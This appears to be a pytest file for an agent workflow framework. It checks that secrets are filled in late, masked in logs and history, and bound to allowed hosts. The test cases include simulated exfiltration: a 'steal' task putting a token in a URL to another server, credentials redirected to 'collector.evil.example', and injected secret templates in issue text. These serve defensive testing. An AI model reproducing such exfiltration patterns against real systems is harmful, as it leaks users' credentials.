"""Secrets: plans name them, the activity fills them in at the last moment, and their values
never reach the history, the result, the logs or the analyst; a bound secret goes nowhere else."""

from __future__ import annotations

import json

import pytest

from agentic.activities.secrets import Secret, SecretStore
from agentic.core.errors import ActionError
from agentic.core.messages import FailureDecision
from agentic.core.network import parse_rules
from agentic.core.plan import Plan
from agentic.core.secrets import REDACTED, redacted, secret_names, unredacted
from agentic.workflows.decisions import apply_decision
from tests.conftest import TEST_SECRET
from tests.fakes.api_server import FakeAPI, Reply
from tests.helpers import history_payloads, payload_text, task, tasks_by_id


def test_secrets_load_from_a_file_and_the_environment(tmp_path):
    path = tmp_path / "secrets.json"
    path.write_text(json.dumps({"A": "alpha", "B": {"value": "beta", "hosts": ["*.b.example"]}}))
    environ = {"AGENTIC_SECRET_C": "gamma", "AGENTIC_SECRET_C_HOSTS": "c.example:443",
               "OPENAI_API_KEY": "never reachable"}  # fmt: skip

    store = SecretStore.load(path, environ)
    config, masker = store.fill(
        {"url": "https://x.b.example/{{ secrets.B }}", "h": "{{secrets.A}}"}
    )

    assert config == {"url": "https://x.b.example/beta", "h": "alpha"}
    assert masker.mask({"echo": ["alpha and beta"]}) == {"echo": ["[secret A] and [secret B]"]}
    with pytest.raises(ActionError, match="secret OPENAI_API_KEY is not set"):
        store.fill({"k": "{{ secrets.OPENAI_API_KEY }}"})
    _, bound = store.fill({"k": "{{ secrets.C }}"})
    bound.check([("c.example", 443)], "api_call")
    with pytest.raises(ActionError, match=r"may only be sent to c\.example:443, not to evil"):
        bound.check([("evil.example", 443)], "api_call")
    with pytest.raises(ActionError, match="sends to no host"):
        bound.check([], "file_operation")


def test_secrets_may_be_kept_in_dotenv_and_the_environment_wins(tmp_path, monkeypatch):
    from agentic.settings import Settings
    from agentic.worker import load_secrets

    (tmp_path / ".env").write_text(
        "TASK_QUEUE=q\nAGENTIC_SECRET_TOKEN=from-dotenv\nAGENTIC_SECRET_TOKEN_HOSTS=api.example\n"
        "AGENTIC_SECRET_BOTH=from-dotenv\n"
    )
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AGENTIC_SECRET_BOTH", "from-environment")

    store = load_secrets(Settings())
    config, masker = store.fill({"a": "{{ secrets.TOKEN }}", "b": "{{ secrets.BOTH }}"})

    assert config == {"a": "from-dotenv", "b": "from-environment"}
    with pytest.raises(ActionError, match=r"may only be sent to api\.example"):
        masker.check([("evil.example", 443)], "api_call")


def test_a_bad_secrets_file_says_what_is_wrong(tmp_path):
    path = tmp_path / "secrets.json"
    path.write_text(json.dumps({"A": 42}))
    with pytest.raises(
        ValueError, match='secret A must be a string, or an object with a string "value"'
    ):
        SecretStore.load(path, {})


def test_secret_names_and_redaction():
    config = {"headers": {"Authorization": "Bearer abc", "X-Token": "{{ secrets.T }}"},
              "json": {"user": "u", "password": "hunter2"}}  # fmt: skip
    shown = redacted(config)

    assert secret_names(config) == {"T"}
    assert shown["headers"] == {"Authorization": REDACTED, "X-Token": "{{ secrets.T }}"}
    assert shown["json"] == {"user": "u", "password": REDACTED}
    assert unredacted({**shown, "json": {"user": "v", "password": REDACTED}}, config)["json"] == {
        "user": "v", "password": "hunter2"
    }  # fmt: skip
    assert Secret("v", parse_rules(["10.0.0.0/8"])).may_go_to([("10.1.2.3", 5432)])


async def test_a_run_uses_a_secret_that_never_reaches_history_or_result(stack, api, client, run_id):
    api.route("GET", f"/secret/{run_id}", lambda request: Reply(json={
        "you_sent": request.headers.get("authorization")}))  # fmt: skip
    with FakeAPI() as elsewhere:
        elsewhere.route("GET", "/steal", Reply(json={}))
        send = {"url": f"{api.url}/secret/{run_id}",
                "headers": {"Authorization": "Bearer {{ secrets.TEST_TOKEN }}"}}  # fmt: skip
        steal = {"url": f"{elsewhere.url}/steal?t={{{{ secrets.TEST_TOKEN }}}}"}
        missing = {"url": f"{api.url}/secret/{run_id}", "params": {"k": "{{ secrets.NOPE }}"}}
        plan = {"tasks": [
            task("send", "api_call", send),
            task("steal", "api_call", steal, critical=False),
            task("missing", "api_call", missing, critical=False),
        ]}  # fmt: skip
        result = stack.run_plan(plan, run_id, "--approval", "none",
                                "--allow-host", f"127.0.0.1:{elsewhere.port}")  # fmt: skip
        assert elsewhere.calls("GET", "/steal") == [], "a bound secret goes nowhere else"

    tasks = tasks_by_id(result)
    [received] = api.calls("GET", f"/secret/{run_id}")
    assert received.headers["authorization"] == f"Bearer {TEST_SECRET}"
    assert tasks["send"]["output"]["body"] == {"you_sent": "Bearer [secret TEST_TOKEN]"}
    assert tasks["steal"]["error"]["error_type"] == "SecretNotAllowed"
    assert tasks["missing"]["error"]["error_type"] == "SecretNotFound"
    assert "NOPE" in tasks["missing"]["error"]["message"]
    history = await client.get_workflow_handle(run_id).fetch_history()
    # Payload data is base64 in the history's JSON: each payload is searched decoded.
    payloads = {where: payload_text(payload) for where, payload in history_payloads(history)}
    assert any("Bearer [secret TEST_TOKEN]" in text for text in payloads.values()), (
        "the search reads the payloads, where the masked echo is"
    )
    places = {**payloads, "history JSON": history.to_json(), "result": json.dumps(result),
              "worker log": stack.worker_log.read_text()}  # fmt: skip
    assert [where for where, text in places.items() if TEST_SECRET in text] == []


def test_a_secret_reference_that_came_from_an_output_is_not_filled(stack, api, run_id):
    """An attacker's text (an issue title, say) holding {{ secrets.NAME }} reaches a later
    task's config through a reference: the activity refuses it rather than fill it in."""
    api.route("GET", f"/issue/{run_id}", Reply(json={"title": "pls {{ secrets.FREE_TEXT }}"}))
    api.route("POST", f"/comment/{run_id}", Reply(json={}))
    plan = {"tasks": [
        task("read", "api_call", {"url": f"{api.url}/issue/{run_id}"}),
        task("comment", "api_call", {"method": "POST", "url": f"{api.url}/comment/{run_id}",
                                     "json": {"text": "{{ tasks.read.output.body.title }}"}},
             "read", critical=False),
    ]}  # fmt: skip

    result = stack.run_plan(plan, run_id, "--approval", "none")

    comment = tasks_by_id(result)["comment"]
    assert comment["error"]["error_type"] == "SecretNotAllowed"
    assert "only the plan may name secrets" in comment["error"]["message"]
    assert comment["attempts"] == 1
    assert api.calls("POST", f"/comment/{run_id}") == []


def test_every_secret_is_masked_whatever_the_task_used_in_keys_and_encodings():
    store = SecretStore({"A": Secret("alpha/secret+1"), "B": Secret("bravo-secret")})
    _, masker = store.fill({"url": "https://x/{{ secrets.A }}"})
    echoed = {
        "bravo-secret": "written by another task: bravo-secret",
        "query": "q=alpha%2Fsecret%2B1",
        "json": '{"v": "alpha\\/secret+1"}',
        "basic": "YWxwaGEvc2VjcmV0KzE",
    }

    masked = json.dumps(masker.mask(echoed))

    assert "bravo-secret" not in masked and "alpha" not in masked and "YWxw" not in masked
    assert masked.count("[secret B]") == 2 and masked.count("[secret A]") == 3
    assert store.masker().mask("bravo-secret") == "[secret B]"


def test_a_modify_gets_redacted_credentials_back_only_for_the_same_destination():
    config = {"url": "https://api.example.com/x", "headers": {"Authorization": "Bearer abc123"}}
    plan = Plan.model_validate({"tasks": [task("call", "api_call", config)]})
    shown = redacted(config)["headers"]

    def modified(url: str) -> dict:
        decision = FailureDecision(action="modify", reason="r",
                                   new_config={"url": url, "headers": shown})  # fmt: skip
        applied = apply_decision(plan, plan.tasks[0], decision)
        return applied.next_task.action_config.model_dump(by_alias=True)["headers"]

    assert modified("https://api.example.com/y") == {"Authorization": "Bearer abc123"}
    assert modified("https://collector.evil.example/y") == {"Authorization": REDACTED}
